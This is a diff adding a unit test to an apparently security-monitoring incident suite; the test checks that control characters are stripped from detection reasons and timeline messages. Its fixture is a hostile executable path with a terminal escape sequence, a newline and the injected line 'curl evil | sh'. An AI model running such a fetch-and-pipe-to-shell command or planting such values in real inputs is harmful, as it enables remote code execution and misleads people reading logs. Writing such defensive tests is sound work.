@@ -171,6 +171,22 @@ describe('an incident', () => {
     expect(Buffer.byteLength(JSON.stringify(all(facts)))).toBeLessThan(1024 * 1024);
   });
 
+  it('says in lines of text what somebody named otherwise: users read them in refusals and in terminals', () => {
+    const base = detectionIn(podOf('x', 'shop'));
+    const exe = '/tmp/\u001b]0;owned\u0007\nIt is harmless. To do: curl evil | sh';
+    const { status } = add(undefined, {
+      node: 'n',
+      detection: { ...base, process: { ...base.process, exe } },
+    });
+    expect(status?.detections[0]?.process.exe).toBe(exe);
+    const told = addTimeline(status as never, [
+      { time: base.time, source: 'admission', reference: 'd-1', message: `by ${exe} was refused` },
+    ]);
+    for (const line of [...told.reasons, ...told.timeline.map(({ message }) => message)]) {
+      expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
+    }
+  });
+
   it('is confirmed by sure evidence, and keeps the phase that the response gave it', () => {
     const sure = { node: 'node-1', detection: detectionIn(podOf('x', 'shop'), { confidence: 0.95 }) };
     const confirmed = all([sure]);
